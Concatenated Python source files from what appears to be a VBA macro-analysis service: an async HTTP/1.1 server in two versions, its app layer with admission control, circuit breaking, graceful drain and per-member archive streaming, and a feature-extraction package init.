            per_client_window=self.config.per_client_window,
            rate_per_s=self.config.rate_per_s,
            burst=self.config.burst,
            metrics=self.metrics,
        )
        self.http = HttpServer(
            self.handle,
            host=self.config.host,
            port=self.config.port,
            max_body_bytes=self.config.max_body_bytes,
            read_timeout_s=self.config.read_timeout_s,
            keepalive_idle_s=self.config.keepalive_idle_s,
            max_requests_per_connection=self.config.max_requests_per_connection,
            on_connection=self._on_connection,
        )
        self._draining = False
        self.port: int | None = None

    # -- lifecycle -----------------------------------------------------

    async def start(self) -> int:
        """Warm the pool, then bind; returns the bound port."""
        await self.gateway.start()
        self.port = await self.http.start()
        return self.port

    async def drain(self, budget_s: float | None = None):
        """Graceful shutdown: refuse new work, settle in-flight within the
        drain budget, quarantine the rest, close pool and sockets."""
        if self._draining:
            return None
        self._draining = True
        # Kept-alive connections must learn about the drain *before* their
        # next response head is written: every in-flight reply goes out
        # ``Connection: close`` and no further requests are read.
        self.http.draining = True
        self._trace("app", "drain", "begin")
        report = await self.gateway.drain(budget_s)
        # In-flight handlers hold resolved futures now; let them flush
        # their responses before the listener goes away.
        await asyncio.sleep(0.05)
        await self.http.stop()
        return report

    # -- probes ---------------------------------------------------------

    def readiness(self) -> tuple[bool, dict]:
        """Pool warm ∧ not draining ∧ breaker closed ∧ queue below shed."""
        depth = self.gateway.queue_depth
        detail = {
            "warm": self.gateway.warm,
            "draining": self._draining or self.gateway.draining,
            "breaker": self.breaker.state,
            "queue_depth": depth,
            "shed_line": self.admission.shed_line,
        }
        ready = (
            detail["warm"]
            and not detail["draining"]
            and detail["breaker"] == "closed"
            and depth < self.admission.shed_line
        )
        return ready, detail

    def _metrics_text(self) -> str:
        for attempt in (1, 2):
            try:
                view = (
                    self.obs_window.view(self.metrics)
                    if self.obs_window is not None and self.metrics.enabled
                    else None
                )
                return render_prometheus(self.metrics.to_dict(), view)
            except RuntimeError:  # dict resized mid-snapshot; retry once
                if attempt == 2:
                    raise
        raise AssertionError("unreachable")

    def _trace(self, name: str, event: str, detail: str = "") -> None:
        metrics = self.metrics
        if metrics.enabled and getattr(metrics, "trace", False):
            metrics.events.append(serve_event(name, event, detail))

    def _on_connection(self, phase: str, client: str, active: int) -> None:
        """HttpServer lifecycle observer → connection instruments."""
        metrics = self.metrics
        if metrics.enabled:
            metrics.gauge("serve.connections.active").set(active)
            if phase == "reused":
                metrics.counter("serve.connections.reused").inc()
        self._trace("http", "connection", f"{phase} {client}")

    # -- routing ---------------------------------------------------------

    async def handle(self, request: Request) -> Response | StreamingResponse:
        path = request.path.rstrip("/") or "/"
        if request.method == "GET":
            if path == "/healthz":
                return json_response(
                    {"status": "ok", "draining": self._draining}
                )
            if path == "/readyz":
                ready, detail = self.readiness()
                payload = {"ready": ready}
                payload.update(detail)
                return json_response(payload, 200 if ready else 503)
            if path == "/metrics":
                return Response(
                    body=self._metrics_text().encode("utf-8"),
                    content_type=CONTENT_TYPE,
                )
        endpoint = path.lstrip("/")
        if endpoint not in ENDPOINTS:
            raise HttpError(404, "not_found", f"no route {path!r}")
        if request.method != "POST":
            raise HttpError(
                405, "method_not_allowed", f"{endpoint} requires POST"
            )
        return await self._analyze(endpoint, request)

    # -- the analysis endpoints ------------------------------------------

    def _deadline_s(self, request: Request) -> float | None:
        raw = request.query.get("deadline_s")
        if raw is None:
            deadline = self.config.default_deadline_s
        else:
            try:
                deadline = float(raw)
                if deadline <= 0:
                    raise ValueError
            except ValueError:
                raise HttpError(
                    400, "bad_deadline", f"deadline_s={raw!r} is not a "
                    "positive number"
                )
        if deadline is None:
            return None
        if self.config.max_deadline_s > 0:
            deadline = min(deadline, self.config.max_deadline_s)
        return deadline

    async def _analyze(
        self, endpoint: str, request: Request
    ) -> Response | StreamingResponse:
        metrics = self.metrics
        if metrics.enabled:
            metrics.counter(f"serve.requests.{endpoint}").inc()
        started = time.perf_counter()
        try:
            response = await self._gated(endpoint, request, started)
        except HttpError as error:
            # Only unexpected server-side failures burn the SLO error
            # budget: deliberate overload refusals and client mistakes
            # (4xx) are the policy working, not the service failing.
            if (
                error.status >= 500
                and error.code not in _POLICY_CODES
                and metrics.enabled
            ):
                metrics.counter(f"serve.errors.{endpoint}").inc()
            if error.code not in _PRE_ADMISSION_CODES:
                self._observe(endpoint, started)
            raise
        except Exception:
            if metrics.enabled:
                metrics.counter(f"serve.errors.{endpoint}").inc()
            self._observe(endpoint, started)
            raise
        return response

    def _observe(self, endpoint: str, started: float) -> None:
        if self.metrics.enabled:
            self.metrics.histogram(f"serve.latency.{endpoint}").observe(
                time.perf_counter() - started
            )

    async def _gated(
        self, endpoint: str, request: Request, started: float
    ) -> Response | StreamingResponse:
        """Admission → breaker → work.  Every admitted request releases
        its window slot (and half-open probe slot) exactly once, even
        when the response is a stream that outlives this call."""
        if self._draining or self.gateway.draining:
            raise HttpError(
                503, "draining", "server is draining", retry_after=5.0
            )
        if not request.body:
            raise HttpError(400, "empty_body", "request body is empty")
        deadline_s = self._deadline_s(request)  # 400 before admission
        rejection = self.admission.admit(
            request.client, self.gateway.queue_depth
        )
        if rejection is not None:
            self._trace(
                endpoint,
                "shed" if rejection.status == 503 else "rejected",
                rejection.code,
            )
            raise HttpError(
                rejection.status,
                rejection.code,
                rejection.message,
                retry_after=rejection.retry_after,
            )
        is_probe = False
        released = False

        def release_once() -> None:
            # Idempotent: the error path and the response-finished path
            # can both reach this without double-freeing the window slot.
            nonlocal released
            if released:
                return
            released = True
            self.admission.release(request.client)
            if is_probe:
                # A probe whose request ended without a pool verdict
                # (cache hit, deadline, crash) frees its slot without
                # deciding the breaker; after record_success/failure
                # already moved the state this is a no-op.
                self.breaker.abandon_probe()

        try:
            if not self.breaker.allow():
                self._trace(endpoint, "shed", "breaker_open")
                raise HttpError(
                    503,
                    "breaker_open",
                    "worker pool is recovering from repeated collapse",
                    retry_after=self.breaker.cooloff_s,
                )
            is_probe = self.breaker.state == HALF_OPEN
            self._trace(endpoint, "admitted", request.query.get("id", ""))
            return await self._respond(
                endpoint, request, deadline_s, started, release_once
            )
        except BaseException:
            release_once()
            raise

    async def _respond(
        self,
        endpoint: str,
        request: Request,
        deadline_s: float | None,
        started: float,
        release_once,
    ) -> Response | StreamingResponse:
        """The admitted path: single document or expanded archive."""
        body = request.body
        source_id = request.query.get(
            "id", f"http:{request.client}:{sha256_hex(body)[:12]}"
        )
        members: list[tuple[str, bytes]] | None = None
        if is_plain_archive(body) or is_tar_archive(body):
            try:
                members = expand_archive(source_id, body, metrics=self.metrics)
            except ArchiveBombError as error:
                raise HttpError(400, "archive_bomb", str(error)) from None

        if members is not None:
            # Archive: one NDJSON line per member, flushed in completion
            # order.  Members admit through the per-client window
            # individually (see _stream_members), so the envelope's own
            # slot converts rather than multiplying.
            return StreamingResponse(
                self._stream_members(
                    endpoint,
                    members,
                    deadline_s,
                    started,
                    release_once,
                    request.client,
                )
            )

        try:
            record = await self.gateway.analyze(
                source_id, body, deadline_s=deadline_s
            )
        except DeadlineExpired as error:
            self._trace(endpoint, "deadline_expired", source_id)
            raise HttpError(408, "deadline_expired", str(error)) from None
        except GatewayClosed as error:
            raise HttpError(503, "draining", str(error)) from None
        release_once()
        self._observe(endpoint, started)
        line = json.dumps(render_record(endpoint, record), sort_keys=True)
        return Response(
            body=(line + "\n").encode("utf-8"),
            content_type="application/x-ndjson",
        )

    async def _stream_members(
        self,
        endpoint: str,
        members: list[tuple[str, bytes]],
        deadline_s: float | None,
        started: float,
        release_once,
        client: str,
    ):
        """Stream one NDJSON line per member, window slots permitting.

        The archive's envelope slot converts to member-level admission:
        release it up front, then dispatch each member only when
        :meth:`AdmissionController.take_member` grants a window slot, and
        return the slot the moment that member settles.  A 500-member
        archive therefore holds at most ``per_client_window`` gateway
        queue slots at any instant — concurrent small requests keep
        admitting instead of being shed behind a wall of members.
        """
        deadline_at = (
            time.monotonic() + deadline_s if deadline_s is not None else None
        )

        async def analyze_member(mid, payload, rem):
            try:
                record = await self.gateway.analyze(
                    mid, payload, deadline_s=rem
                )
                return render_record(endpoint, record)
            except DeadlineExpired as error:
                self._trace(endpoint, "deadline_expired", mid)
                return {
                    "path": mid,
                    "error": {
                        "code": "deadline_expired",
                        "message": str(error),
                        "status": 408,
                    },
                }
            except GatewayClosed as error:
                return {
                    "path": mid,
                    "error": {
                        "code": "draining",
                        "message": str(error),
                        "status": 503,
                    },
                }

        release_once()
        queued = list(members)  # expansion order; dispatched FIFO
        running: set[asyncio.Task] = set()
        held = 0  # window slots taken but not yet released
        try:
            while queued or running:
                while queued and self.admission.take_member(client):
                    held += 1
                    member_id, data = queued.pop(0)
                    remaining = None
                    if deadline_at is not None:
                        remaining = max(
                            0.001, deadline_at - time.monotonic()
                        )
                    running.add(
                        asyncio.ensure_future(
                            analyze_member(member_id, data, remaining)
                        )
                    )
                if not running:
                    # The client's other requests hold the whole window;
                    # members wait for capacity, they do not jump it.
                    await asyncio.sleep(0.005)
                    continue
                done, running = await asyncio.wait(
                    running, return_when=asyncio.FIRST_COMPLETED
                )
                for settled in done:
                    self.admission.release(client)
                    held -= 1
                    payload = settled.result()  # analyze_member never raises
                    yield (
                        json.dumps(payload, sort_keys=True) + "\n"
                    ).encode("utf-8")
        finally:
            for task in running:
                if not task.done():
                    task.cancel()
            for _ in range(held):
                self.admission.release(client)
            release_once()
            self._observe(endpoint, started)


async def serve_forever(
    app: ServeApp,
    *,
    signals=(signal.SIGTERM, signal.SIGINT),
    on_ready=None,
):
    """Run the app until SIGTERM/SIGINT, then drain gracefully.

    ``on_ready(app)`` fires once the port is bound and the pool is warm.
    Returns the :class:`~repro.serve.gateway.DrainReport`.
    """
    loop = asyncio.get_running_loop()
    stop = asyncio.Event()
    for sig in signals:
        loop.add_signal_handler(sig, stop.set)
    try:
        await app.start()
        if on_ready is not None:
            on_ready(app)
        await stop.wait()
    finally:
        for sig in signals:
            loop.remove_signal_handler(sig)
    return await app.drain()
