"""A minimal, robustness-first stdlib asyncio HTTP/1.1 front-end.

No framework: the serving layer's promise is *every connection gets a
typed response, never a hang and never a reset*, and the simplest server
that can keep that promise is one we fully control.  Decisions, all in
service of that promise:

* **one request per connection** (``Connection: close``) — no keep-alive
  state machine to get wrong under load-shed and drain;
* **bounded everything** — header block, body size, and per-phase read
  deadlines are all capped, and every violation maps to a typed JSON
  error (400/408/411/413/431), not a dropped socket;
* **chunked streaming** for JSONL responses — lines flush as results
  settle, so a client watching an archive scan sees members as they
  complete;
* **handler exceptions become 500 bodies** — the handler contract is
  "return a Response or raise HttpError"; anything else is a bug that
  the *client* still sees as a well-formed JSON error.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, urlsplit

#: Request-line + header block cap (DoS guard, not a tuning knob).
MAX_HEADER_BYTES = 16 * 1024
#: Default request-body cap; ``repro serve --max-body-bytes`` overrides.
DEFAULT_MAX_BODY_BYTES = 32 * 1024 * 1024
#: Seconds a client gets to finish sending headers / body.
READ_TIMEOUT_S = 30.0

REASONS = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    408: "Request Timeout",
    411: "Length Required",
    413: "Payload Too Large",
    429: "Too Many Requests",
    431: "Request Header Fields Too Large",
    500: "Internal Server Error",
    503: "Service Unavailable",
}


class HttpError(Exception):
    """A typed protocol-level failure the client must see as JSON."""

    def __init__(
        self,
        status: int,
        code: str,
        message: str,
        *,
        retry_after: float | None = None,
        extra: dict | None = None,
    ) -> None:
        super().__init__(message)
        self.status = status
        self.code = code
        self.message = message
        self.retry_after = retry_after
        self.extra = extra or {}

    def to_response(self) -> "Response":
        return error_response(
            self.status,
            self.code,
            self.message,
            retry_after=self.retry_after,
            extra=self.extra,
        )


@dataclass(slots=True)
class Request:
    """One parsed request (body fully read before the handler runs)."""

    method: str
    path: str
    query: dict[str, str]
    headers: dict[str, str]  # keys lowercased
    body: bytes
    client: str  # peer IP (admission-control identity)


@dataclass(slots=True)
class Response:
    """A complete response; ``Content-Length`` framing."""

    status: int = 200
    body: bytes = b""
    content_type: str = "application/json"
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(slots=True)
class StreamingResponse:
    """A chunked response whose body is an async iterator of byte chunks."""

    chunks: AsyncIterator[bytes]
    status: int = 200
    content_type: str = "application/x-ndjson"
    headers: dict[str, str] = field(default_factory=dict)


def json_response(
    payload, status: int = 200, *, headers: dict[str, str] | None = None
) -> Response:
    body = (json.dumps(payload, sort_keys=True) + "\n").encode("utf-8")
    return Response(status=status, body=body, headers=headers or {})


def error_response(
    status: int,
    code: str,
    message: str,
    *,
    retry_after: float | None = None,
    extra: dict | None = None,
) -> Response:
    """The typed error shape every non-2xx response uses."""
    payload = {"error": {"code": code, "message": message, "status": status}}
    if extra:
        payload["error"].update(extra)
    headers = {}
    if retry_after is not None:
        # Retry-After is delta-seconds; round up so "0.2" is not "retry now".
        headers["Retry-After"] = str(max(1, int(retry_after + 0.999)))
    return json_response(payload, status, headers=headers)


Handler = Callable[[Request], Awaitable[Response | StreamingResponse]]


class HttpServer:
    """`asyncio.start_server` shell around one async ``handler``."""

    def __init__(
        self,
        handler: Handler,
        *,
        host: str = "127.0.0.1",
        port: int = 0,
        max_body_bytes: int = DEFAULT_MAX_BODY_BYTES,
        read_timeout_s: float = READ_TIMEOUT_S,
    ) -> None:
        self.handler = handler
        self.host = host
        self.requested_port = port
        self.port: int | None = None
        self.max_body_bytes = max_body_bytes
        self.read_timeout_s = read_timeout_s
        self._server: asyncio.Server | None = None

    async def start(self) -> int:
        self._server = await asyncio.start_server(
            self._serve_connection, self.host, self.requested_port
        )
        self.port = self._server.sockets[0].getsockname()[1]
        return self.port

    async def stop(self) -> None:
        if self._server is None:
            return
        self._server.close()
        await self._server.wait_closed()
        self._server = None

    # -- one connection ------------------------------------------------

    async def _serve_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        peer = writer.get_extra_info("peername")
        client = peer[0] if isinstance(peer, tuple) else "unknown"
        try:
            try:
                request = await self._read_request(reader, client)
            except HttpError as error:
                await self._write_response(writer, error.to_response())
                return
            except (asyncio.IncompleteReadError, ConnectionError):
                return  # client went away mid-request; nothing to answer
            try:
                response = await self.handler(request)
            except HttpError as error:
                response = error.to_response()
            except Exception as error:  # noqa: BLE001 - typed 500, never a reset
                response = error_response(
                    500, "internal", f"{type(error).__name__}: {error}"
                )
            if isinstance(response, StreamingResponse):
                await self._write_streaming(writer, response)
            else:
                await self._write_response(writer, response)
        except (ConnectionError, asyncio.CancelledError):
            pass  # peer reset or server teardown; the socket is closed below
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except (ConnectionError, OSError):
                pass

    async def _read_request(
        self, reader: asyncio.StreamReader, client: str
    ) -> Request:
        try:
            header_block = await asyncio.wait_for(
                reader.readuntil(b"\r\n\r\n"), self.read_timeout_s
            )
        except asyncio.TimeoutError:
            raise HttpError(408, "header_timeout", "request headers too slow")
        except asyncio.LimitOverrunError:
            raise HttpError(431, "headers_too_large", "header block too large")
        if len(header_block) > MAX_HEADER_BYTES:
            raise HttpError(431, "headers_too_large", "header block too large")
        try:
            text = header_block.decode("latin-1")
            request_line, *header_lines = text.split("\r\n")
            method, target, version = request_line.split(" ", 2)
        except ValueError:
            raise HttpError(400, "bad_request_line", "malformed request line")
        if not version.startswith("HTTP/1."):
            raise HttpError(400, "bad_version", f"unsupported {version!r}")
        headers: dict[str, str] = {}
        for line in header_lines:
            if not line:
                continue
            name, separator, value = line.partition(":")
            if not separator:
                raise HttpError(400, "bad_header", f"malformed header {line!r}")
            headers[name.strip().lower()] = value.strip()
        parts = urlsplit(target)
        query = dict(parse_qsl(parts.query, keep_blank_values=True))

        body = b""
        if method in ("POST", "PUT"):
            length_header = headers.get("content-length")
            if length_header is None:
                raise HttpError(
                    411, "length_required", "POST requires Content-Length"
                )
            try:
                length = int(length_header)
                if length < 0:
                    raise ValueError
            except ValueError:
                raise HttpError(400, "bad_length", "bad Content-Length")
            if length > self.max_body_bytes:
                raise HttpError(
                    413,
                    "payload_too_large",
                    f"body is {length:,} bytes; limit {self.max_body_bytes:,}",
                )
            try:
                body = await asyncio.wait_for(
                    reader.readexactly(length), self.read_timeout_s
                )
            except asyncio.TimeoutError:
                raise HttpError(408, "body_timeout", "request body too slow")
        return Request(
            method=method,
            path=parts.path or "/",
            query=query,
            headers=headers,
            body=body,
            client=client,
        )

    @staticmethod
    def _head(response: Response | StreamingResponse, framing: str) -> bytes:
        reason = REASONS.get(response.status, "Unknown")
        lines = [
            f"HTTP/1.1 {response.status} {reason}",
            f"Content-Type: {response.content_type}",
            framing,
            "Connection: close",
        ]
        for name, value in response.headers.items():
            lines.append(f"{name}: {value}")
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")

    async def _write_response(
        self, writer: asyncio.StreamWriter, response: Response
    ) -> None:
        writer.write(
            self._head(response, f"Content-Length: {len(response.body)}")
        )
        writer.write(response.body)
        await writer.drain()

    async def _write_streaming(
        self, writer: asyncio.StreamWriter, response: StreamingResponse
    ) -> None:
        writer.write(self._head(response, "Transfer-Encoding: chunked"))
        await writer.drain()
        try:
            async for chunk in response.chunks:
                if not chunk:
                    continue
                writer.write(f"{len(chunk):x}\r\n".encode("latin-1"))
                writer.write(chunk)
                writer.write(b"\r\n")
                await writer.drain()
        finally:
            writer.write(b"0\r\n\r\n")
            await writer.drain()
