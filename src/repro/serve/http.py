"""A minimal, robustness-first stdlib asyncio HTTP/1.1 front-end.

No framework: the serving layer's promise is *every connection gets a
typed response, never a hang and never a reset*, and the simplest server
that can keep that promise is one we fully control.  Decisions, all in
service of that promise:

* **keep-alive with a bounded state machine** — HTTP/1.1 connections
  persist through a per-connection request loop, so a storming client
  pays TCP setup once instead of per request.  The loop is bounded in
  every direction: an idle timeout closes quiet connections
  (``keepalive_idle_s``), a per-connection request cap bounds how long
  one socket can monopolize server state
  (``max_requests_per_connection``), ``Connection: close`` (and any
  HTTP/1.0 request not asking for keep-alive) is honored, and a server
  that is :attr:`draining` finishes the in-flight response with
  ``Connection: close`` and stops reading.  Protocol-level violations
  (bad request line, oversized headers, slow bodies) still answer typed
  and then close — after a framing error the stream position is
  untrusted.  Handler-level errors (404/429/503...) keep the connection:
  a shed request must not poison the requests queued behind it;
* **bounded everything** — header block, body size, and per-phase read
  deadlines are all capped, and every violation maps to a typed JSON
  error (400/408/411/413/431), not a dropped socket;
* **chunked streaming** for JSONL responses — lines flush as results
  settle, so a client watching an archive scan sees members as they
  complete;
* **handler exceptions become 500 bodies** — the handler contract is
  "return a Response or raise HttpError"; anything else is a bug that
  the *client* still sees as a well-formed JSON error.

Connection lifecycle is observable without this module knowing about
metrics: ``on_connection(phase, client, active)`` fires with phases
``opened`` / ``reused`` / ``closed`` / ``idle_timeout`` and the current
open-connection count, and the app layer turns those into the
``serve.connections.*`` instruments and ``connection`` trace events.
"""

from __future__ import annotations

import asyncio
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from dataclasses import dataclass, field
from urllib.parse import parse_qsl, urlsplit

#: Request-line + header block cap (DoS guard, not a tuning knob).
MAX_HEADER_BYTES = 16 * 1024
#: Default request-body cap; ``repro serve --max-body-bytes`` overrides.
DEFAULT_MAX_BODY_BYTES = 32 * 1024 * 1024
#: Seconds a client gets to finish sending headers / body.
READ_TIMEOUT_S = 30.0
#: Seconds a kept-alive connection may sit quiet before the server closes it.
KEEPALIVE_IDLE_S = 5.0
#: Requests one connection may serve before the server forces a fresh one.
MAX_REQUESTS_PER_CONNECTION = 100

#: ``on_connection`` lifecycle phases (mirrored by
#: :data:`repro.obs.events.CONNECTION_PHASES`).
CONNECTION_PHASES = ("opened", "reused", "closed", "idle_timeout")

REASONS = {
    200: "OK",
    400: "Bad Request",
    404: "Not Found",
    405: "Method Not Allowed",
    408: "Request Timeout",
    411: "Length Required",
    413: "Payload Too Large",
    429: "Too Many Requests",
    431: "Request Header Fields Too Large",
    500: "Internal Server Error",
    503: "Service Unavailable",
}


class HttpError(Exception):
    """A typed protocol-level failure the client must see as JSON."""

    def __init__(
        self,
        status: int,
        code: str,
        message: str,
        *,
        retry_after: float | None = None,
        extra: dict | None = None,
    ) -> None:
        super().__init__(message)
        self.status = status
        self.code = code
        self.message = message
        self.retry_after = retry_after
        self.extra = extra or {}

    def to_response(self) -> "Response":
        return error_response(
            self.status,
            self.code,
            self.message,
            retry_after=self.retry_after,
            extra=self.extra,
        )


@dataclass(slots=True)
class Request:
    """One parsed request (body fully read before the handler runs)."""

    method: str
    path: str
    query: dict[str, str]
    headers: dict[str, str]  # keys lowercased
    body: bytes
    client: str  # peer IP (admission-control identity)
    version: str = "HTTP/1.1"

    def wants_close(self) -> bool:
        """Did the client opt out of keep-alive for this request?"""
        tokens = {
            token.strip().lower()
            for token in self.headers.get("connection", "").split(",")
        }
        if "close" in tokens:
            return True
        # HTTP/1.0 defaults to one-shot unless keep-alive is requested.
        return self.version == "HTTP/1.0" and "keep-alive" not in tokens


@dataclass(slots=True)
class Response:
    """A complete response; ``Content-Length`` framing."""

    status: int = 200
    body: bytes = b""
    content_type: str = "application/json"
    headers: dict[str, str] = field(default_factory=dict)


@dataclass(slots=True)
class StreamingResponse:
    """A chunked response whose body is an async iterator of byte chunks."""

    chunks: AsyncIterator[bytes]
    status: int = 200
    content_type: str = "application/x-ndjson"
    headers: dict[str, str] = field(default_factory=dict)


def json_response(
    payload, status: int = 200, *, headers: dict[str, str] | None = None
) -> Response:
    body = (json.dumps(payload, sort_keys=True) + "\n").encode("utf-8")
    return Response(status=status, body=body, headers=headers or {})


def error_response(
    status: int,
    code: str,
    message: str,
    *,
    retry_after: float | None = None,
    extra: dict | None = None,
) -> Response:
    """The typed error shape every non-2xx response uses."""
    payload = {"error": {"code": code, "message": message, "status": status}}
    if extra:
        payload["error"].update(extra)
    headers = {}
    if retry_after is not None:
        # Retry-After is delta-seconds; round up so "0.2" is not "retry now".
        headers["Retry-After"] = str(max(1, int(retry_after + 0.999)))
    return json_response(payload, status, headers=headers)


Handler = Callable[[Request], Awaitable[Response | StreamingResponse]]

#: Optional observer: ``on_connection(phase, client, active)`` where
#: ``phase`` is one of :data:`CONNECTION_PHASES` and ``active`` is the
#: number of currently open connections.
ConnectionObserver = Callable[[str, str, int], None]


class _IdleTimeout(Exception):
    """A kept-alive connection sat quiet past the idle budget (not an error)."""


class HttpServer:
    """`asyncio.start_server` shell around one async ``handler``."""

    def __init__(
        self,
        handler: Handler,
        *,
        host: str = "127.0.0.1",
        port: int = 0,
        max_body_bytes: int = DEFAULT_MAX_BODY_BYTES,
        read_timeout_s: float = READ_TIMEOUT_S,
        keepalive_idle_s: float = KEEPALIVE_IDLE_S,
        max_requests_per_connection: int = MAX_REQUESTS_PER_CONNECTION,
        on_connection: ConnectionObserver | None = None,
    ) -> None:
        self.handler = handler
        self.host = host
        self.requested_port = port
        self.port: int | None = None
        self.max_body_bytes = max_body_bytes
        self.read_timeout_s = read_timeout_s
        self.keepalive_idle_s = keepalive_idle_s
        self.max_requests_per_connection = max(1, max_requests_per_connection)
        self.on_connection = on_connection
        #: Set by the app layer at drain start: every in-flight response
        #: goes out ``Connection: close`` and no further requests are read.
        self.draining = False
        self._server: asyncio.Server | None = None
        self._writers: set[asyncio.StreamWriter] = set()

    async def start(self) -> int:
        self._server = await asyncio.start_server(
            self._serve_connection, self.host, self.requested_port
        )
        self.port = self._server.sockets[0].getsockname()[1]
        return self.port

    async def stop(self) -> None:
        if self._server is None:
            return
        self._server.close()
        # Python 3.12+ wait_closed() waits for connection handlers too;
        # kept-alive sockets parked in an idle read would stall shutdown
        # for up to keepalive_idle_s each unless forced shut first.
        for writer in list(self._writers):
            writer.close()
        await self._server.wait_closed()
        self._server = None

    # -- one connection ------------------------------------------------

    def _notify(self, phase: str, client: str) -> None:
        if self.on_connection is None:
            return
        try:
            self.on_connection(phase, client, len(self._writers))
        except Exception:  # noqa: BLE001 - observers must never kill a socket
            pass

    async def _serve_connection(
        self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter
    ) -> None:
        peer = writer.get_extra_info("peername")
        client = peer[0] if isinstance(peer, tuple) else "unknown"
        self._writers.add(writer)
        self._notify("opened", client)
        served = 0
        closing_phase = "closed"
        try:
            while True:
                try:
                    request = await self._read_request(
                        reader, client, idle=served > 0
                    )
                except _IdleTimeout:
                    closing_phase = "idle_timeout"
                    return
                except HttpError as error:
                    # Protocol-level failure: the stream position is no
                    # longer trustworthy, so answer typed and close.
                    await self._write_response(
                        writer, error.to_response(), close=True
                    )
                    return
                except (asyncio.IncompleteReadError, ConnectionError):
                    return  # client went away mid-request; nothing to answer
                if served:
                    self._notify("reused", client)
                served += 1
                try:
                    response = await self.handler(request)
                except HttpError as error:
                    # Handler-level refusal (404/429/503...): the request
                    # was fully framed, so the connection stays usable.
                    response = error.to_response()
                except Exception as error:  # noqa: BLE001 - typed 500, never a reset
                    response = error_response(
                        500, "internal", f"{type(error).__name__}: {error}"
                    )
                close = (
                    self.draining
                    or served >= self.max_requests_per_connection
                    or request.wants_close()
                )
                if isinstance(response, StreamingResponse):
                    await self._write_streaming(writer, response, close=close)
                else:
                    await self._write_response(writer, response, close=close)
                if close:
                    return
        except (ConnectionError, asyncio.CancelledError):
            pass  # peer reset or server teardown; the socket is closed below
        finally:
            try:
                writer.close()
                await writer.wait_closed()
            except (ConnectionError, OSError):
                pass
            self._writers.discard(writer)
            self._notify(closing_phase, client)

    async def _read_request(
        self, reader: asyncio.StreamReader, client: str, *, idle: bool = False
    ) -> Request:
        timeout = self.keepalive_idle_s if idle else self.read_timeout_s
        try:
            header_block = await asyncio.wait_for(
                reader.readuntil(b"\r\n\r\n"), timeout
            )
        except asyncio.TimeoutError:
            if idle:
                # A quiet kept-alive connection, not a slow client: close
                # without a response (there is no request to answer).
                raise _IdleTimeout
            raise HttpError(408, "header_timeout", "request headers too slow")
        except asyncio.LimitOverrunError:
            raise HttpError(431, "headers_too_large", "header block too large")
        if len(header_block) > MAX_HEADER_BYTES:
            raise HttpError(431, "headers_too_large", "header block too large")
        try:
            text = header_block.decode("latin-1")
            request_line, *header_lines = text.split("\r\n")
            method, target, version = request_line.split(" ", 2)
        except ValueError:
            raise HttpError(400, "bad_request_line", "malformed request line")
        if not version.startswith("HTTP/1."):
            raise HttpError(400, "bad_version", f"unsupported {version!r}")
        headers: dict[str, str] = {}
        for line in header_lines:
            if not line:
                continue
            name, separator, value = line.partition(":")
            if not separator:
                raise HttpError(400, "bad_header", f"malformed header {line!r}")
            headers[name.strip().lower()] = value.strip()
        parts = urlsplit(target)
        query = dict(parse_qsl(parts.query, keep_blank_values=True))

        body = b""
        if method in ("POST", "PUT"):
            length_header = headers.get("content-length")
            if length_header is None:
                raise HttpError(
                    411, "length_required", "POST requires Content-Length"
                )
            try:
                length = int(length_header)
                if length < 0:
                    raise ValueError
            except ValueError:
                raise HttpError(400, "bad_length", "bad Content-Length")
            if length > self.max_body_bytes:
                raise HttpError(
                    413,
                    "payload_too_large",
                    f"body is {length:,} bytes; limit {self.max_body_bytes:,}",
                )
            try:
                body = await asyncio.wait_for(
                    reader.readexactly(length), self.read_timeout_s
                )
            except asyncio.TimeoutError:
                raise HttpError(408, "body_timeout", "request body too slow")
        return Request(
            method=method,
            path=parts.path or "/",
            query=query,
            headers=headers,
            body=body,
            client=client,
            version=version,
        )

    @staticmethod
    def _head(
        response: Response | StreamingResponse, framing: str, *, close: bool
    ) -> bytes:
        reason = REASONS.get(response.status, "Unknown")
        lines = [
            f"HTTP/1.1 {response.status} {reason}",
            f"Content-Type: {response.content_type}",
            framing,
            f"Connection: {'close' if close else 'keep-alive'}",
        ]
        for name, value in response.headers.items():
            lines.append(f"{name}: {value}")
        return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")

    async def _write_response(
        self,
        writer: asyncio.StreamWriter,
        response: Response,
        *,
        close: bool = True,
    ) -> None:
        writer.write(
            self._head(
                response,
                f"Content-Length: {len(response.body)}",
                close=close,
            )
        )
        writer.write(response.body)
        await writer.drain()

    async def _write_streaming(
        self,
        writer: asyncio.StreamWriter,
        response: StreamingResponse,
        *,
        close: bool = True,
    ) -> None:
        writer.write(
            self._head(response, "Transfer-Encoding: chunked", close=close)
        )
        await writer.drain()
        try:
            async for chunk in response.chunks:
                if not chunk:
                    continue
                writer.write(f"{len(chunk):x}\r\n".encode("latin-1"))
                writer.write(chunk)
                writer.write(b"\r\n")
                await writer.drain()
        finally:
            writer.write(b"0\r\n\r\n")
            await writer.drain()
