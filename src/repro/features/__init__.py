"""Static feature engineering: the paper's V1–V15 set and the J1–J20 baseline."""

from repro.features.entropy import max_entropy, shannon_entropy
from repro.features.jfeatures import J_FEATURE_NAMES, extract_j_features
from repro.features.matrix import (
    FEATURE_SETS,
    extract_both,
    extract_features,
    feature_names,
)
from repro.features.vfeatures import (
    V_FEATURE_GROUPS,
    V_FEATURE_NAMES,
    extract_v_features,
)

__all__ = [
    "FEATURE_SETS",
    "J_FEATURE_NAMES",
    "V_FEATURE_GROUPS",
    "V_FEATURE_NAMES",
    "extract_both",
    "extract_features",
    "extract_j_features",
    "extract_v_features",
    "feature_names",
    "max_entropy",
    "shannon_entropy",
]
