"""Static feature engineering: the paper's V1–V15 set and the J1–J20 baseline.

Feature sets are pluggable (see :mod:`repro.features.registry`) and each
built-in set ships a column-batch kernel (``v_features_batch`` /
``j_features_batch``) that vectorizes whole corpora of
:class:`~repro.vba.analyzer.AnalysisSummary` digests in single numpy
passes.  :mod:`repro.features.cache` adds the normalized-source
feature-row cache that lets re-submitted macro variants skip analysis and
featurization entirely.
"""

from repro.features.cache import (
